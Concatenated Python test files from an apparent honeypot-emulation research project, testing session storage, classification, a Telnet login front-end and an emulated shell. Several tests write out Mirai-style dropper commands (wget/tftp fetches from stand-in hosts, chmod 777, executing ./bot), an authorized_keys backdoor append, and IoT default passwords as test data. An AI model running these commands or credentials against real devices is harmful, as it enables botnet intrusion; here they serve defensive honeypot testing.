        from repro.honeypot.protocol import Protocol
        assert Protocol.SSH.port == 22
        assert Protocol.TELNET.port == 23
