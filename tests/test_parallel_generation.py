"""Sharded multiprocess generation: determinism and store merging.

The sharded generator must produce the same store for every worker count,
and the merge layer must remap interned ids correctly when combining
stores whose string tables diverged.
"""

from __future__ import annotations

import numpy as np
import pytest

from repro.store.records import SessionRecord
from repro.store.store import SessionStore, StoreBuilder
from repro.workload import ScenarioConfig, generate_dataset
from repro.workload.shards import ShardPlan, generate_sharded


def fingerprint(store: SessionStore) -> tuple:
    """Full content identity of a store (column bytes + tables + scripts)."""
    columns = (
        store.start_time, store.duration, store.honeypot, store.protocol,
        store.client_ip, store.client_asn, store.client_country,
        store.n_attempts, store.login_success, store.script_id,
        store.password_id, store.username_id, store.close_reason,
        store.version_id,
    )
    return (
        tuple(np.asarray(c).tobytes() for c in columns),
        tuple(store.hash_ids),
        tuple(store.honeypots.values()),
        tuple(store.countries.values()),
        tuple(store.passwords.values()),
        tuple(store.usernames.values()),
        tuple(store.hashes.values()),
        tuple(store.versions.values()),
        tuple((s.commands, s.uris) for s in store.scripts),
    )


@pytest.fixture(scope="module")
def sharded_config() -> ScenarioConfig:
    return ScenarioConfig(scale=1 / 40000, seed=7, hash_scale=0.004)


def test_worker_count_does_not_change_output(sharded_config):
    serial = generate_sharded(sharded_config, workers=1)
    parallel = generate_dataset(sharded_config, workers=4)
    assert fingerprint(serial.store) == fingerprint(parallel.store)
    assert [c.campaign_id for c in serial.campaigns] == \
        [c.campaign_id for c in parallel.campaigns]


def test_sharded_volume_matches_legacy(sharded_config):
    """Shard budgets are coupled to the serial plan: same session count."""
    legacy = generate_dataset(sharded_config)  # workers=None -> serial path
    sharded = generate_dataset(sharded_config, workers=1)
    assert len(sharded.store) == len(legacy.store)


def test_repeated_sharded_runs_are_identical(sharded_config):
    """The cached shard plan must not accumulate state between runs."""
    first = generate_sharded(sharded_config, workers=1)
    second = generate_sharded(sharded_config, workers=1)
    assert fingerprint(first.store) == fingerprint(second.store)


def test_shards_cover_scenario_exactly_once(sharded_config):
    from repro.workload.generator import TraceGenerator

    plan = ShardPlan(TraceGenerator(sharded_config))
    seen = set()
    for shard in plan.shards:
        for pos in range(shard.start, shard.stop):
            key = (shard.kind, shard.key, pos)
            assert key not in seen
            seen.add(key)


def _record(i: int, honeypot: str, country: str, **kw) -> SessionRecord:
    defaults = dict(
        start_time=float(i * 600), duration=10.0, honeypot_id=honeypot,
        protocol="ssh", client_ip=1000 + i, client_asn=i,
        client_country=country, n_login_attempts=1, login_success=True,
    )
    defaults.update(kw)
    return SessionRecord(**defaults)


def test_merge_remaps_interned_ids():
    a = StoreBuilder()
    a.append(_record(0, "pot-a", "US", password="alpha",
                     commands=("ls",), file_hashes=("h1",)))
    b = StoreBuilder()
    # Same strings in a different intern order, plus strings unknown to a.
    b.append(_record(1, "pot-b", "DE", password="beta",
                     commands=("wget",), uris=("http://x/a",),
                     file_hashes=("h2", "h1")))
    b.append(_record(2, "pot-a", "US", password="alpha",
                     commands=("ls",), file_hashes=("h1",)))

    merged = SessionStore.merge([a.build(), b.build()])
    assert len(merged) == 3
    pots = [merged.honeypots.value_of(int(p)) for p in merged.honeypot]
    assert pots == ["pot-a", "pot-b", "pot-a"]
    countries = [merged.countries.value_of(int(c))
                 for c in merged.client_country]
    assert countries == ["US", "DE", "US"]
    passwords = [merged.passwords.value_of(int(p))
                 for p in merged.password_id]
    assert passwords == ["alpha", "beta", "alpha"]
    hashes = [tuple(merged.hashes.value_of(h) for h in ids)
              for ids in merged.hash_ids]
    assert hashes == [("h1",), ("h2", "h1"), ("h1",)]
    scripts = [merged.scripts[int(s)].commands for s in merged.script_id]
    assert scripts == [("ls",), ("wget",), ("ls",)]
    # Rows 0 and 2 are identical sessions from different builders: after
    # remapping they must share every interned id.
    assert int(merged.script_id[0]) == int(merged.script_id[2])
    assert int(merged.password_id[0]) == int(merged.password_id[2])


def test_adopt_into_forked_builder_extends_shared_prefix():
    base = StoreBuilder()
    base.append(_record(0, "pot-a", "US", password="alpha"))
    fork = base.fork_tables()
    assert len(fork) == 0
    fork.append(_record(1, "pot-b", "DE", password="beta"))
    shard = fork.build()

    base.adopt_store(shard)
    merged = base.build()
    assert len(merged) == 2
    # The fork shared base's table prefix, so "pot-a" keeps one id and the
    # shard's new strings append after it.
    assert merged.honeypots.values()[:2] == ["pot-a", "pot-b"]


def test_collector_merge_combines_counters():
    from repro.farm.collector import FarmCollector

    one, two = FarmCollector(), FarmCollector()
    one.add_record(_record(0, "pot-a", "US"))
    two.add_record(_record(1, "pot-b", "DE"))
    two.add_record(_record(2, "pot-a", "US"))
    one.merge(two)
    assert one.sessions_total == 3
    assert one.sessions_by_honeypot == {"pot-a": 2, "pot-b": 1}
    store = one.build_store()
    assert len(store) == 3
    pots = [store.honeypots.value_of(int(p)) for p in store.honeypot]
    assert pots == ["pot-a", "pot-b", "pot-a"]
