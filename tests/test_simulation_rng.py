"""Tests for deterministic named RNG streams."""

import numpy as np
import pytest

from repro.simulation.rng import RngStream


class TestDeterminism:
    def test_same_seed_same_sequence(self):
        a = RngStream(42, "x")
        b = RngStream(42, "x")
        assert [a.random() for _ in range(10)] == [b.random() for _ in range(10)]

    def test_different_names_differ(self):
        a = RngStream(42, "x")
        b = RngStream(42, "y")
        assert [a.random() for _ in range(5)] != [b.random() for _ in range(5)]

    def test_different_seeds_differ(self):
        a = RngStream(1, "x")
        b = RngStream(2, "x")
        assert a.random() != b.random()

    def test_child_is_deterministic(self):
        a = RngStream(42, "root").child("sub")
        b = RngStream(42, "root").child("sub")
        assert a.random() == b.random()

    def test_child_independent_of_parent_consumption(self):
        parent1 = RngStream(42, "root")
        parent1.random()  # consume from parent
        child1 = parent1.child("sub")
        child2 = RngStream(42, "root").child("sub")
        assert child1.random() == child2.random()

    def test_child_name_composition(self):
        assert RngStream(1, "a").child("b").name == "a.b"


class TestDraws:
    @pytest.fixture
    def rng(self):
        return RngStream(7, "test")

    def test_random_in_unit_interval(self, rng):
        for _ in range(100):
            assert 0.0 <= rng.random() < 1.0

    def test_uniform_bounds(self, rng):
        for _ in range(100):
            assert 2.0 <= rng.uniform(2.0, 3.0) < 3.0

    def test_randint_bounds(self, rng):
        values = {rng.randint(0, 5) for _ in range(200)}
        assert values == {0, 1, 2, 3, 4}

    def test_exponential_positive(self, rng):
        assert all(rng.exponential(5.0) > 0 for _ in range(50))

    def test_pareto_minimum(self, rng):
        assert all(rng.pareto(1.5, scale=2.0) >= 2.0 for _ in range(100))

    def test_poisson_zero_lambda(self, rng):
        assert rng.poisson(0.0) == 0

    def test_binomial_edge_cases(self, rng):
        assert rng.binomial(0, 0.5) == 0
        assert rng.binomial(10, 0.0) == 0
        assert rng.binomial(10, 1.0) == 10

    def test_bernoulli_extremes(self, rng):
        assert not rng.bernoulli(0.0)
        assert rng.bernoulli(1.0)

    def test_zipf_truncation(self, rng):
        assert all(rng.zipf(1.5, max_value=10) <= 10 for _ in range(200))

    def test_choice_returns_element(self, rng):
        seq = ["a", "b", "c"]
        assert rng.choice(seq) in seq

    def test_choice_with_weights(self, rng):
        # All weight on one element -> always chosen.
        assert all(rng.choice(["x", "y"], p=[1.0, 0.0]) == "x" for _ in range(20))

    def test_sample_distinct(self, rng):
        sample = rng.sample(list(range(100)), 10)
        assert len(sample) == len(set(sample)) == 10

    def test_sample_clamps_k(self, rng):
        assert len(rng.sample([1, 2, 3], 10)) == 3

    def test_shuffled_preserves_elements(self, rng):
        data = list(range(20))
        assert sorted(rng.shuffled(data)) == data

    def test_multinomial_sums_to_n(self, rng):
        counts = rng.multinomial(1000, [0.2, 0.3, 0.5])
        assert counts.sum() == 1000

    def test_multinomial_unnormalised_weights(self, rng):
        counts = rng.multinomial(100, [2.0, 2.0])
        assert counts.sum() == 100

    def test_multinomial_rejects_zero_weights(self, rng):
        with pytest.raises(ValueError):
            rng.multinomial(10, [0.0, 0.0])

    def test_weighted_indices_bias(self, rng):
        idx = rng.weighted_indices([0.99, 0.01], size=500)
        assert (idx == 0).mean() > 0.9

    def test_array_shapes(self, rng):
        assert rng.random_array(10).shape == (10,)
        assert rng.uniform_array(0, 1, 7).shape == (7,)
        assert rng.lognormal_array(0, 1, 5).shape == (5,)
        assert rng.exponential_array(1.0, 4).shape == (4,)

    def test_choice_indices_with_p(self, rng):
        idx = rng.choice_indices(3, size=50, p=[1.0, 0.0, 0.0])
        assert (np.asarray(idx) == 0).all()
