"""Tests for session classification (Figure 5 taxonomy)."""

import numpy as np
import pytest

from repro.core.classify import (
    BEHAVIOR_OF,
    CATEGORIES,
    Category,
    behavior_masks,
    category_masks,
    category_shares,
    classify_record,
    classify_store,
)
from repro.store.records import SessionRecord
from repro.store.store import StoreBuilder


def record_for(n_attempts, success, commands=(), uris=()):
    return SessionRecord(
        start_time=0.0, duration=1.0, honeypot_id="h", protocol="ssh",
        client_ip=1, client_asn=1, client_country="US",
        n_login_attempts=n_attempts, login_success=success,
        commands=tuple(commands), uris=tuple(uris),
    )


class TestClassifyRecord:
    def test_no_cred(self):
        assert classify_record(record_for(0, False)) is Category.NO_CRED

    def test_fail_log(self):
        assert classify_record(record_for(3, False)) is Category.FAIL_LOG

    def test_no_cmd(self):
        assert classify_record(record_for(1, True)) is Category.NO_CMD

    def test_cmd(self):
        assert classify_record(record_for(1, True, ["uname"])) is Category.CMD

    def test_cmd_uri(self):
        record = record_for(1, True, ["wget http://x/y"], ["http://x/y"])
        assert classify_record(record) is Category.CMD_URI


class TestClassifyStore:
    @pytest.fixture
    def store(self):
        builder = StoreBuilder()
        builder.append(record_for(0, False))
        builder.append(record_for(2, False))
        builder.append(record_for(1, True))
        builder.append(record_for(1, True, ["uname"]))
        builder.append(record_for(1, True, ["wget http://x/y"], ["http://x/y"]))
        return builder.build()

    def test_codes_match_record_classification(self, store):
        codes = classify_store(store)
        assert list(codes) == [0, 1, 2, 3, 4]

    def test_every_session_classified(self, store):
        masks = category_masks(store)
        stacked = np.vstack([masks[c] for c in CATEGORIES])
        assert (stacked.sum(axis=0) == 1).all()

    def test_shares_sum_to_one(self, store):
        shares = category_shares(store)
        assert sum(shares.values()) == pytest.approx(1.0)

    def test_vector_matches_scalar(self, store):
        codes = classify_store(store)
        for i in range(len(store)):
            assert CATEGORIES[codes[i]] is classify_record(store.record(i))

    def test_behavior_masks(self, store):
        behaviors = behavior_masks(store)
        assert behaviors["scanning"].sum() == 1
        assert behaviors["scouting"].sum() == 1
        assert behaviors["intrusion"].sum() == 3

    def test_behavior_mapping(self):
        assert BEHAVIOR_OF[Category.NO_CRED] == "scanning"
        assert BEHAVIOR_OF[Category.FAIL_LOG] == "scouting"
        assert BEHAVIOR_OF[Category.CMD_URI] == "intrusion"

    def test_empty_store(self):
        store = StoreBuilder().build()
        assert len(classify_store(store)) == 0
        shares = category_shares(store)
        assert all(v == 0.0 for v in shares.values())
