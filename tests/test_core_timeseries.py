"""Tests for daily time-series analyses (Figures 3/4/6/8/9)."""

import numpy as np
import pytest

from repro.core.classify import CATEGORIES
from repro.core.timeseries import (
    bands_all_honeypots,
    bands_top_honeypots,
    category_bands,
    category_fractions_over_time,
    daily_sessions_matrix,
    daily_totals,
    percentile_bands,
    top_honeypots,
)
from repro.store.records import SessionRecord
from repro.store.store import StoreBuilder


def simple_store():
    builder = StoreBuilder()
    # pot "a": 3 sessions on day 0; pot "b": 1 session on day 1.
    for i in range(3):
        builder.append(SessionRecord(
            start_time=10.0 * i, duration=1.0, honeypot_id="a", protocol="ssh",
            client_ip=i, client_asn=1, client_country="US",
            n_login_attempts=0, login_success=False,
        ))
    builder.append(SessionRecord(
        start_time=86_400.0 + 5, duration=1.0, honeypot_id="b", protocol="ssh",
        client_ip=9, client_asn=1, client_country="US",
        n_login_attempts=0, login_success=False,
    ))
    return builder.build()


class TestMatrix:
    def test_shape_and_counts(self):
        store = simple_store()
        matrix = daily_sessions_matrix(store)
        assert matrix.shape == (2, 2)
        assert matrix[0, 0] == 3  # pot a, day 0
        assert matrix[1, 1] == 1  # pot b, day 1
        assert matrix.sum() == 4

    def test_mask(self):
        store = simple_store()
        mask = store.day == 0
        matrix = daily_sessions_matrix(store, mask)
        assert matrix.sum() == 3


class TestBands:
    def test_percentiles_ordered(self, small_store):
        bands = bands_all_honeypots(small_store)
        assert np.all(bands.p5 <= bands.p25 + 1e-9)
        assert np.all(bands.p25 <= bands.median + 1e-9)
        assert np.all(bands.median <= bands.p75 + 1e-9)
        assert np.all(bands.p75 <= bands.p95 + 1e-9)

    def test_days_axis(self, small_store):
        bands = bands_all_honeypots(small_store)
        assert len(bands.days) == small_store.n_days

    def test_top_bands_higher(self, small_store):
        top = bands_top_honeypots(small_store)
        everyone = bands_all_honeypots(small_store)
        # Top-5% pots see more daily sessions than the full-farm median.
        assert top.median.mean() >= everyone.median.mean()

    def test_as_dict(self, small_store):
        d = bands_all_honeypots(small_store).as_dict()
        assert set(d) == {"days", "p5", "p25", "median", "p75", "p95"}

    def test_percentile_bands_tiny_matrix(self):
        bands = percentile_bands(np.array([[1, 2], [3, 4]]))
        assert bands.median.tolist() == [2.0, 3.0]


class TestTopHoneypots:
    def test_count(self, small_store):
        top = top_honeypots(small_store, 0.05)
        assert len(top) == round(221 * 0.05)

    def test_actually_top(self, small_store):
        counts = np.bincount(small_store.honeypot, minlength=221)
        top = top_honeypots(small_store, 0.05)
        cutoff = np.sort(counts)[::-1][len(top) - 1]
        assert all(counts[i] >= cutoff for i in top)


class TestFractions:
    def test_fractions_sum_to_one(self, small_store):
        fractions = category_fractions_over_time(small_store)
        total = sum(fractions[c.value] for c in CATEGORIES)
        active = fractions["total"] > 0
        assert np.allclose(total[active], 1.0)

    def test_totals_match(self, small_store):
        fractions = category_fractions_over_time(small_store)
        assert fractions["total"].sum() == len(small_store)

    def test_daily_totals_mask(self, small_store):
        mask = small_store.protocol == 0
        assert daily_totals(small_store, mask).sum() == int(mask.sum())


class TestCategoryBands:
    def test_all_categories_present(self, small_store):
        bands = category_bands(small_store)
        assert set(bands) == {c.value for c in CATEGORIES}

    def test_top_fraction_variant(self, small_store):
        bands = category_bands(small_store, 0.05)
        assert set(bands) == {c.value for c in CATEGORIES}

    def test_fail_log_dominates_cmd_uri(self, small_store):
        bands = category_bands(small_store)
        # At small scale per-pot daily medians collapse to zero, so compare
        # the upper band.
        assert bands["FAIL_LOG"].p95.sum() > bands["CMD_URI"].p95.sum()
