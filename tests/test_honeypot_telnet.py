"""Tests for the Telnet front-end."""

import pytest

from repro.honeypot.protocol import Protocol
from repro.honeypot.session import CloseReason, HoneypotSession
from repro.honeypot.telnet import (
    DO,
    DONT,
    LOGIN_PROMPT,
    OPT_ECHO,
    OPT_NAWS,
    OPT_TERMINAL_TYPE,
    PASSWORD_PROMPT,
    TelnetFrontend,
    TelnetPhase,
    WILL,
    WONT,
)


def make_frontend():
    session = HoneypotSession(
        honeypot_id="h", honeypot_ip=1, protocol=Protocol.TELNET,
        client_ip=2, client_port=23001, start_time=0.0,
    )
    return TelnetFrontend(session=session)


class TestNegotiation:
    def test_do_echo_answered_will(self):
        frontend = make_frontend()
        assert frontend.receive_iac(DO, OPT_ECHO) == WILL

    def test_do_unsupported_answered_wont(self):
        frontend = make_frontend()
        assert frontend.receive_iac(DO, 99) == WONT

    def test_will_terminal_type_answered_do(self):
        frontend = make_frontend()
        assert frontend.receive_iac(WILL, OPT_TERMINAL_TYPE) == DO
        assert frontend.receive_iac(WILL, OPT_NAWS) == DO

    def test_will_unsupported_answered_dont(self):
        frontend = make_frontend()
        assert frontend.receive_iac(WILL, OPT_ECHO) == DONT

    def test_negotiations_recorded(self):
        frontend = make_frontend()
        frontend.receive_iac(DO, OPT_ECHO)
        assert len(frontend.negotiations) == 1

    def test_unknown_command_rejected(self):
        with pytest.raises(ValueError):
            make_frontend().receive_iac(250, OPT_ECHO)


class TestLoginDialogue:
    def test_initial_prompt(self):
        frontend = make_frontend()
        assert frontend.phase is TelnetPhase.LOGIN
        assert LOGIN_PROMPT in frontend.transcript

    def test_username_then_password_prompt(self):
        frontend = make_frontend()
        reply = frontend.client_says("root", 1.0)
        assert reply == PASSWORD_PROMPT
        assert frontend.phase is TelnetPhase.PASSWORD

    def test_successful_login_reaches_shell(self):
        frontend = make_frontend()
        frontend.client_says("root", 1.0)
        reply = frontend.client_says("dreambox", 2.0)
        assert "BusyBox" in reply
        assert frontend.phase is TelnetPhase.SHELL
        assert frontend.session.login_success

    def test_failed_login_reprompts(self):
        frontend = make_frontend()
        frontend.client_says("admin", 1.0)
        reply = frontend.client_says("admin", 2.0)
        assert "Login incorrect" in reply
        assert LOGIN_PROMPT in reply
        assert frontend.phase is TelnetPhase.LOGIN

    def test_telnet_allows_many_attempts(self):
        frontend = make_frontend()
        for i in range(5):
            frontend.client_says("admin", float(i))
            frontend.client_says("wrong", float(i) + 0.5)
        assert not frontend.session.is_closed
        assert frontend.session.credentials[0] == ("admin", "wrong")

    def test_shell_commands_recorded(self):
        frontend = make_frontend()
        frontend.client_says("root", 1.0)
        frontend.client_says("1234", 2.0)
        reply = frontend.client_says("uname -a", 3.0)
        assert "Linux" in reply
        assert frontend.session.commands == ["uname -a"]

    def test_exit_closes(self):
        frontend = make_frontend()
        frontend.client_says("root", 1.0)
        frontend.client_says("1234", 2.0)
        frontend.client_says("exit", 3.0)
        assert frontend.phase is TelnetPhase.CLOSED
        assert frontend.session.close_reason is CloseReason.CLIENT_EXIT

    def test_hang_up(self):
        frontend = make_frontend()
        frontend.client_says("root", 1.0)
        frontend.hang_up(2.0)
        assert frontend.session.is_closed
        assert frontend.session.close_reason is CloseReason.CLIENT_DISCONNECT
        assert frontend.client_says("anything", 3.0) == ""

    def test_mirai_style_dialogue(self):
        """The classic Mirai telnet chain ends with the busybox probe."""
        frontend = make_frontend()
        frontend.client_says("root", 1.0)
        frontend.client_says("xc3511", 2.0)
        reply = frontend.client_says("/bin/busybox MIRAI", 3.0)
        assert "MIRAI: applet not found" in reply
