"""Tests for shell command-line parsing."""

from repro.honeypot.shell.parser import split_command_line


class TestSplitting:
    def test_single_command(self):
        cmds = split_command_line("uname -a")
        assert len(cmds) == 1
        assert cmds[0].argv == ["uname", "-a"]

    def test_semicolon(self):
        cmds = split_command_line("uname; free")
        assert [c.name for c in cmds] == ["uname", "free"]

    def test_pipe(self):
        cmds = split_command_line("cat /proc/cpuinfo | grep name | wc -l")
        assert [c.name for c in cmds] == ["cat", "grep", "wc"]

    def test_and_and(self):
        cmds = split_command_line("cd /tmp && wget http://x/y && sh y")
        assert [c.name for c in cmds] == ["cd", "wget", "sh"]

    def test_or_or(self):
        cmds = split_command_line("wget http://x/y || tftp -g x")
        assert [c.name for c in cmds] == ["wget", "tftp"]

    def test_mixed_separators(self):
        cmds = split_command_line("a; b && c | d || e")
        assert [c.name for c in cmds] == ["a", "b", "c", "d", "e"]

    def test_semicolon_inside_quotes_preserved(self):
        cmds = split_command_line('echo "a; b"')
        assert len(cmds) == 1
        assert cmds[0].argv == ["echo", "a; b"]

    def test_pipe_inside_quotes_preserved(self):
        cmds = split_command_line("echo 'x | y'")
        assert len(cmds) == 1

    def test_empty_segments_dropped(self):
        cmds = split_command_line("a;; ;b")
        assert [c.name for c in cmds] == ["a", "b"]

    def test_trailing_background_ampersand(self):
        cmds = split_command_line("./bot &")
        assert len(cmds) == 1
        assert cmds[0].name == "./bot"

    def test_empty_line(self):
        assert split_command_line("") == []
        assert split_command_line("   ") == []


class TestRedirection:
    def test_truncating_redirect(self):
        cmd = split_command_line("echo hi > /tmp/f")[0]
        assert cmd.argv == ["echo", "hi"]
        assert cmd.redirect_path == "/tmp/f"
        assert not cmd.redirect_append

    def test_append_redirect(self):
        cmd = split_command_line('echo "key" >> /root/.ssh/authorized_keys')[0]
        assert cmd.redirect_append
        assert cmd.redirect_path == "/root/.ssh/authorized_keys"

    def test_redirect_inside_quotes_ignored(self):
        cmd = split_command_line('echo "a > b"')[0]
        assert cmd.redirect_path is None
        assert cmd.argv == ["echo", "a > b"]

    def test_redirect_then_semicolon(self):
        cmds = split_command_line("echo x > /tmp/f; cat /tmp/f")
        assert cmds[0].redirect_path == "/tmp/f"
        assert cmds[1].name == "cat"

    def test_text_field_keeps_original(self):
        cmd = split_command_line("echo x > f")[0]
        assert cmd.text == "echo x > f"

    def test_redirect_without_target(self):
        cmd = split_command_line("echo x >")[0]
        assert cmd.redirect_path is None
