"""Tests for the ``repro top`` scheduler dashboard."""

from __future__ import annotations

import json

from repro.sched import TopDashboard, WorkerRow


def _hb(worker: str, beat: int, wall: float, sessions: int,
        state: str = "run", last_index: int = 0,
        tasks_done: int = 0) -> dict:
    return {
        "kind": "sched.heartbeat.worker",
        "wall": wall,
        "data": {
            "worker": worker, "beat": beat, "state": state,
            "last_index": last_index, "tasks_done": tasks_done,
            "sessions_done": sessions, "rss_kb": 40960,
        },
    }


class TestFold:
    def test_empty_dashboard_renders(self):
        text = TopDashboard().render()
        assert "no worker heartbeats yet" in text
        assert "(none)" in text

    def test_trace_built_sets_total(self):
        dash = TopDashboard()
        dash.feed({"kind": "sched.trace.built", "data": {"tasks": 22}})
        assert dash.total_tasks == 22

    def test_task_done_accumulates_progress(self):
        dash = TopDashboard()
        dash.feed({"kind": "sched.trace.built", "data": {"tasks": 2}})
        dash.feed({"kind": "sched.task.done", "data": {"sessions": 10}})
        dash.feed({"kind": "sched.task.done", "data": {"sessions": 5}})
        assert dash.tasks_done == 2
        assert dash.sessions == 15
        assert "2/2" in dash.render()

    def test_heartbeats_build_worker_rows(self):
        dash = TopDashboard()
        dash.feed(_hb("pool-1", beat=1, wall=10.0, sessions=0))
        dash.feed(_hb("pool-0", beat=1, wall=10.0, sessions=0))
        assert sorted(dash.workers) == ["pool-0", "pool-1"]
        text = dash.render()
        # rows sort by worker name
        assert text.index("pool-0") < text.index("pool-1")

    def test_rate_derived_from_consecutive_beats(self):
        dash = TopDashboard()
        dash.feed(_hb("w", beat=1, wall=10.0, sessions=100))
        assert dash.workers["w"].rate is None  # one beat: no rate yet
        dash.feed(_hb("w", beat=2, wall=12.0, sessions=300))
        assert dash.workers["w"].rate == 100.0

    def test_burst_beats_rate_over_the_window_not_the_sliver(self):
        # Batched result drains deliver beats microseconds apart; the
        # rate must span the window, not divide by the sliver.
        dash = TopDashboard()
        dash.feed(_hb("w", beat=1, wall=10.0, sessions=0))
        dash.feed(_hb("w", beat=2, wall=10.000001, sessions=500))
        assert dash.workers["w"].rate is None  # sliver: no rate yet
        dash.feed(_hb("w", beat=3, wall=11.0, sessions=1000))
        assert dash.workers["w"].rate == 1000.0

    def test_replayed_beat_ignored(self):
        dash = TopDashboard()
        dash.feed(_hb("w", beat=2, wall=10.0, sessions=50))
        dash.feed(_hb("w", beat=2, wall=20.0, sessions=999))
        dash.feed(_hb("w", beat=1, wall=30.0, sessions=999))
        assert dash.workers["w"].sessions_done == 50

    def test_retry_and_stale_land_in_alerts(self):
        dash = TopDashboard()
        dash.feed(_hb("pool-0", beat=1, wall=1.0, sessions=0))
        dash.feed({"kind": "sched.task.retry",
                   "data": {"index": 4, "attempt": 2, "error": "boom"}})
        dash.feed({"kind": "sched.heartbeat.stale",
                   "data": {"worker": "pool-0", "silent_seconds": 31.0,
                            "last_index": 4}})
        assert dash.retries == 1
        assert dash.stale_episodes == 1
        assert dash.workers["pool-0"].state == "STALE"
        text = dash.render()
        assert "RETRY" in text and "STALE" in text

    def test_unknown_kinds_counted_and_ignored(self):
        dash = TopDashboard()
        dash.feed({"kind": "honeypot.session.start", "data": {}})
        dash.feed({"kind": "generate.merged", "data": {"sessions": 42}})
        assert dash.events_seen == 2
        assert dash.merged_sessions == 42

    def test_worker_row_update_tolerates_missing_fields(self):
        row = WorkerRow(worker="w")
        row.update({"beat": 1}, wall=None)
        assert row.beat == 1
        assert row.rate is None


class TestCli:
    def _trace(self, tmp_path):
        events = [
            {"kind": "sched.trace.built", "data": {"tasks": 2}},
            _hb("pool-0", beat=1, wall=1.0, sessions=0),
            _hb("pool-1", beat=1, wall=1.0, sessions=0),
            {"kind": "sched.task.done", "data": {"sessions": 7}},
            _hb("pool-0", beat=2, wall=2.0, sessions=7, tasks_done=1),
            {"kind": "sched.task.done", "data": {"sessions": 3}},
            {"kind": "generate.merged", "data": {"sessions": 10}},
        ]
        target = tmp_path / "trace.jsonl"
        with open(target, "w", encoding="utf-8") as fh:
            for event in events:
                fh.write(json.dumps(event) + "\n")
        return target

    def test_top_once_renders_worker_rows(self, tmp_path, capsys):
        from repro.__main__ import main

        assert main(["top", "--once",
                     "--input", str(self._trace(tmp_path))]) == 0
        out = capsys.readouterr().out
        assert "repro top" in out
        assert "pool-0" in out and "pool-1" in out
        assert "2/2" in out
        assert "merged 10" in out

    def test_top_once_skips_garbage_lines(self, tmp_path, capsys):
        from repro.__main__ import main

        target = self._trace(tmp_path)
        with open(target, "a", encoding="utf-8") as fh:
            fh.write("not json\n")
        assert main(["top", "--once", "--input", str(target)]) == 0
        assert "pool-0" in capsys.readouterr().out

    def test_top_once_on_empty_file(self, tmp_path, capsys):
        from repro.__main__ import main

        target = tmp_path / "empty.jsonl"
        target.touch()
        assert main(["top", "--once", "--input", str(target)]) == 0
        assert "no worker heartbeats yet" in capsys.readouterr().out


class TestAgainstRealTrace:
    def test_dashboard_folds_a_recorded_pool_run(self):
        import repro.workload.shards as shards
        from repro.obs import Tracer, use_metrics, use_tracer
        from repro.sched import generate_scheduled
        from repro.workload import ScenarioConfig

        shards._PLAN = None
        config = ScenarioConfig(scale=1 / 80000, seed=7, hash_scale=0.004)
        tracer = Tracer()
        with use_metrics(), use_tracer(tracer):
            dataset = generate_scheduled(config, backend="pool", workers=2)
        dash = TopDashboard()
        dash.feed_all(tracer.to_list())
        assert dash.total_tasks == dash.tasks_done > 0
        assert dash.sessions == len(dataset.store)
        assert dash.merged_sessions == len(dataset.store)
        assert set(dash.workers) == {"pool-0", "pool-1"}
        for row in dash.workers.values():
            assert row.beat > 0
            assert row.rss_kb > 0
        text = dash.render()
        assert "100%" in text
