"""Tests for dropper/network commands and the shell's download recording."""

import pytest

from repro.honeypot.filesystem import FakeFilesystem
from repro.honeypot.shell.context import ShellContext
from repro.honeypot.shell.resolver import StaticPayloadResolver, UriResolver
from repro.honeypot.shell.shell import EmulatedShell


@pytest.fixture
def shell():
    resolver = StaticPayloadResolver({"http://h.example/bot": b"\x7fELFBOT"})
    return EmulatedShell(ShellContext(fs=FakeFilesystem(), resolver=resolver))


class TestWget:
    def test_download_creates_file(self, shell):
        shell.execute("cd /tmp")
        result = shell.execute("wget http://h.example/bot")
        assert len(result.downloads) == 1
        assert result.downloads[0].success
        assert shell.context.fs.read("/tmp/bot") == b"\x7fELFBOT"

    def test_download_records_hash(self, shell):
        result = shell.execute("wget http://h.example/bot")
        assert len(result.file_changes) == 1
        assert len(result.file_changes[0].sha256) == 64

    def test_output_file_flag(self, shell):
        shell.execute("wget -O /tmp/renamed http://h.example/bot")
        assert shell.context.fs.exists("/tmp/renamed")

    def test_missing_url(self, shell):
        out = shell.execute("wget").commands[0].output
        assert "missing URL" in out

    def test_uri_recorded(self, shell):
        result = shell.execute("wget http://h.example/bot")
        assert result.uris == ["http://h.example/bot"]

    def test_strict_resolver_failure(self):
        resolver = StaticPayloadResolver({}, strict=True)
        shell = EmulatedShell(ShellContext(fs=FakeFilesystem(), resolver=resolver))
        result = shell.execute("wget http://unknown.example/x")
        assert not result.downloads[0].success
        assert result.file_changes == []


class TestCurl:
    def test_curl_remote_name(self, shell):
        shell.execute("cd /tmp")
        result = shell.execute("curl -O http://h.example/bot")
        assert result.downloads[0].success

    def test_curl_stdout_still_hashes(self, shell):
        # Cowrie records the artifact even when output goes to stdout.
        result = shell.execute("curl http://h.example/bot")
        assert result.file_changes


class TestTftpFtpget:
    def test_tftp(self, shell):
        result = shell.execute("tftp -g -l /tmp/payload -r payload 203.0.113.5")
        assert result.downloads[0].uri == "tftp://203.0.113.5/payload"
        assert shell.context.fs.exists("/tmp/payload")

    def test_ftpget(self, shell):
        result = shell.execute("ftpget 203.0.113.5 local.bin remote.bin")
        assert result.downloads[0].uri == "ftp://203.0.113.5/remote.bin"


class TestDeterministicResolver:
    def test_same_uri_same_payload(self):
        resolver = UriResolver()
        assert resolver.fetch("http://x.example/a") == resolver.fetch("http://x.example/a")

    def test_different_uri_different_payload(self):
        resolver = UriResolver()
        assert resolver.fetch("http://x.example/a") != resolver.fetch("http://x.example/b")

    def test_transfer_time_grows_with_size(self):
        resolver = UriResolver()
        assert resolver.transfer_time("u", 10_000_000) > resolver.transfer_time("u", 10)


class TestDropperChain:
    def test_full_mirai_style_chain(self, shell):
        shell.execute("cd /tmp")
        shell.execute("wget http://h.example/bot")
        shell.execute("chmod 777 bot")
        result = shell.execute("./bot")
        # Executing the downloaded binary is an unknown command but runs.
        assert not result.commands[0].known
        assert result.commands[0].output == ""

    def test_run_missing_binary(self, shell):
        result = shell.execute("./ghost")
        assert "not found" in result.commands[0].output

    def test_fallback_same_hash(self):
        payload = b"\x7fELF-same"
        resolver = StaticPayloadResolver({
            "http://h.example/bot": payload,
            "tftp://h.example/bot": payload,
        })
        shell = EmulatedShell(ShellContext(fs=FakeFilesystem(), resolver=resolver))
        shell.execute("cd /tmp")
        result = shell.execute("wget http://h.example/bot || tftp -g -r bot h.example")
        hashes = {c.sha256 for c in result.file_changes}
        assert len(hashes) == 1  # both transports yield one campaign hash
