"""Tests for the threat-intel database."""

from repro.intel.database import IntelDatabase
from repro.intel.tags import FAMILY_TAGS, FLAG_TAGS, ThreatTag


class TestIntelDatabase:
    def test_register_and_lookup(self):
        db = IntelDatabase()
